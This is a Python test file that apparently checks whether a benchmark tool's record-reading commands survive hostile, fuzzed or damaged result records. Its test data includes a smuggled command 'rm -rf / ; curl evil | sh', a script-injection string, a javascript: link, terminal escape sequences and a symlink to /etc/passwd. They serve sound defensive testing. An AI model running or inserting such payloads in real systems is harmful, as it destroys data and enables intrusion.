"""Records from strangers, through the commands that read records (the site has its own tests)."""

from __future__ import annotations

import copy
import json
import random
import shutil

import pytest

KEEP = "down8@reference"


@pytest.fixture(scope="module")
def measured(tmp_path_factory):
    from medbench.__main__ import invoke

    folder = tmp_path_factory.mktemp("measured") / "results"
    names = [option for name in ("mean", "down8") for option in ("--tokenizer", name)]
    options = ["--task", "recon", "--dataset", "sample", "--limit", "2", "--output", str(folder)]
    assert invoke(["run", *names, *options]) == 0
    return folder


def record_of(folder, name):
    (path,) = folder.glob(f"recon/*/{name}/*.json")
    return path


def commands(good, bad, path, out):
    return {
        "leaderboard": ["leaderboard", "--results", bad, "--output", out / "BOARD.md"],
        "leaderboard, CSV": ["leaderboard", "--results", bad, "--output", out / "board.csv"],
        "leaderboard, site": ["leaderboard", "--results", bad, "--output", out / "site"],
        "compare": ["compare", "mean", "down8", "--results", bad],
        "gate": ["gate", "--baseline", good, "--results", bad],
        "gate, as baseline": ["gate", "--baseline", bad, "--results", good],
        "submit": ["submit", "check", bad],
        "submit, against": ["submit", "check", good, "--previous", bad],
        "recheck": ["recheck", path],
    }


HOSTILE = {
    "no metrics": {"metrics": []},
    "no definitions": {"definitions": {}},
    "thousands of groups": {"groups": {f"g{n}": 1 for n in range(5_000)}},
    "a count that no column holds": {"n": 2**63},
    "a count of thousands of digits": {"n": 10**3_000},
    "long names": {"warnings": ["w" * 100_000] * 20},
    "terminal": {"status_reason": "\x1b]0;evil\x07\x1b[2J", "status": "suspect"},
    "markup": {"command": "</script><script>alert(1)</script>", "warnings": ["![x](javascript:1)"]},
    "a path as a command": {"command": "rm -rf / ; curl evil | sh"},
    "times": {"created": "9999999-99-99T99:99:99Z"},
    "no time": {"created": ""},
    "pictures": {"gallery": [{"id": "a", "group": "ct", "file": "x.gallery/0.png", "why": "pick"}]},
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_record_breaks_no_command(tmp_path, attempt, command, measured, case):
    bad = tmp_path / "bad"
    shutil.copytree(measured, bad)
    path = record_of(bad, KEEP)
    data = json.loads(path.read_text())
    change = dict(HOSTILE[case])
    data["dataset"]["groups"] = change.pop("groups", data["dataset"]["groups"])
    if "n" in change:
        data["metrics"][0]["n"] = change.pop("n")
    path.write_text(json.dumps(data | change))
    for words in commands(measured, bad, path, tmp_path).values():
        attempt(lambda w=words: command(*w), names="", refused=False)


@pytest.mark.parametrize("seed", range(3))
def test_a_record_with_changed_values_breaks_no_command(
    tmp_path, attempt, command, measured, fuzz, seed
):
    bad = tmp_path / "bad"
    shutil.copytree(measured, bad)
    path = record_of(bad, KEEP)
    good, rng = json.loads(path.read_text()), random.Random(seed)
    # Most changes make a record that nobody loads; one that loads goes further.
    for _ in range(40):
        tree = fuzz._change_tree(copy.deepcopy(good), rng)
        path.write_text(json.dumps(tree))
        if loads(path):
            break
    for words in commands(measured, bad, path, tmp_path).values():
        attempt(lambda w=words: command(*w), names="", refused=False)


def loads(path):
    from medbench.harness.errors import MedbenchError
    from medbench.harness.record_files import load_record

    try:
        load_record(path)
    except MedbenchError:
        return False
    return True


@pytest.mark.parametrize("damage", ["cut", "zeros", "other", "none", "text", "folder", "link"])
def test_damaged_rows_break_no_command(tmp_path, attempt, command, measured, damage):
    bad = tmp_path / "bad"
    shutil.copytree(measured, bad)
    path = record_of(bad, KEEP)
    rows = path.with_suffix(".parquet")
    content = rows.read_bytes()
    rows.unlink()
    if damage == "folder":
        rows.mkdir()
    elif damage == "link":
        rows.symlink_to("/etc/passwd")
    elif damage != "none":
        other = record_of(bad, "mean@reference").with_suffix(".parquet").read_bytes()
        changed = {"cut": content[:-99], "zeros": bytes(len(content)), "other": other, "text": b"x"}
        rows.write_bytes(changed[damage])
    for words in commands(measured, bad, path, tmp_path).values():
        attempt(lambda w=words: command(*w), names="", refused=False)


def test_what_a_record_names_is_not_imported(
    tmp_path, attempt, command, measured, marker, monkeypatch
):
    """Measuring again takes tokenizers by name; a record's name must not choose the code."""
    (tmp_path / "evil_code.py").write_text(f"import os\nos.mkdir({str(marker)!r})\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    for name, variant in (
        ("evil_code:build", "v"),
        ("jpeg", "evil_code:build"),
        ("diffusers", "evil_code:build"),
        ("evil_code", "x:build"),
    ):
        bad = tmp_path / f"bad-{name[:4]}-{variant[:4]}"
        shutil.copytree(measured, bad)
        path = record_of(bad, KEEP)
        data = json.loads(path.read_text())
        data |= {"tokenizer": name, "variant": variant}
        data["info"] |= {"name": name, "variant": variant}
        path.write_text(json.dumps(data))
        attempt(lambda p=path: command("recheck", p), names="", refused=False)
        attempt(lambda b=bad: command("submit", "check", b), names="", refused=False)
